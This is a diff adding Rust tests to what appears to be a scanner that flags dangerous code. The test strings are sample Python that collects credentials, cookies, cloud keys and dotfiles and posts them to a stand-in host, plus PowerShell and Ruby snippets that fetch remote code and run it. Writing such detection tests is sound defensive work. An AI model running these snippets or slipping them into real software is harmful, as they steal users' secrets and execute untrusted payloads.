@@ -351,3 +351,47 @@ fn keys_that_a_list_names_are_read_too() {
     let cops = "require 'open-uri'\nclass Cops\n  def load!\n    instance_eval(URI.parse(SOURCE).open(read_timeout: 3, &:read), SOURCE)\n  end\nend\n";
     assert_eq!(of("ruby", "a.rb", cops), Some(Severity::Danger));
 }
+
+#[test]
+fn what_finds_credentials_by_itself_and_sends_them_is_a_danger() {
+    let sends = "import urllib.request\ndef send(d):\n    urllib.request.urlopen('https://t.invalid/l', data=d)\n";
+    for code in [
+        "from netrc import netrc\nsend(netrc().hosts)\n",
+        "from keyring import get_password as g\nsend(g('npm', 'me'))\n",
+        "import browser_cookie3 as b\nsend(b.chrome())\n",
+        "import boto3\nsend(boto3.Session().get_credentials().secret_key)\n",
+        "import google.auth\nc, p = google.auth.default()\nsend(c.token)\n",
+        "import subprocess\nsend(subprocess.run(['git', 'credential', 'fill'], capture_output=True).stdout)\n",
+        "import glob, os\nsend([open(f).read() for f in glob.glob(os.path.expanduser('~/.a*s/cred*'))])\n",
+        "from pathlib import Path\nsend([p.read_text() for p in Path.home().iterdir() if p.name.startswith('.')])\n",
+    ] {
+        assert_eq!(of("python3", "a.py", &format!("{sends}{code}")), Some(Severity::Danger), "{code}");
+    }
+    let signed = "import boto3, urllib.request\nc = boto3.Session().get_credentials()\nurllib.request.urlopen('https://x.es.amazonaws.com/q', data=sign(c))\n";
+    let own = "import subprocess, urllib.request\nt = subprocess.check_output(['gh', 'auth', 'token'])\nurllib.request.urlopen('https://api.github.com/user', headers={'A': t})\n";
+    for code in [signed, own] {
+        assert_ne!(of("python3", "a.py", code), Some(Severity::Danger), "{code}");
+    }
+}
+
+#[test]
+fn code_that_powershell_makes_of_an_answer_is_a_danger() {
+    for code in [
+        "$t = [Net.Http.HttpClient]::new().GetStringAsync($u).GetAwaiter().GetResult()\n$ExecutionContext.InvokeCommand.NewScriptBlock($t).Invoke()\n",
+        "$r = irm https://a.invalid/x\n& ([ScriptBlock]::Create($r.body))\n",
+        "$t = irm https://a.invalid/x\nSet-Alias go (gcm *ke-Exp*)\ngo $t\n",
+        "$s = [Net.WebClient]::new().DownloadString('https://a.invalid/t')\nAdd-Type -TypeDefinition $s\n",
+        "$b = [Net.WebClient]::new().DownloadData('https://a.invalid/t')\n[Reflection.Assembly]::Load($b)\n",
+        "$t = irm https://a.invalid/t\nSet-Item function:Format-Row $t\n",
+        "$t = irm https://a.invalid/t\npwsh -EncodedCommand $t\n",
+        "iwr https://a.invalid/t -OutFile $f\n. $f\n",
+    ] {
+        assert_eq!(of("pwsh", "a.ps1", code), Some(Severity::Danger), "{code}");
+    }
+    for code in [
+        "Add-Type -AssemblyName System.Windows.Forms\n$r = irm https://a.example.com/t\n",
+        "param([scriptblock]$Retry)\n$r = irm https://a.example.com/t\nWrite-Output $r.temp\n",
+    ] {
+        assert_ne!(of("pwsh", "a.ps1", code), Some(Severity::Danger), "{code}");
+    }
+}
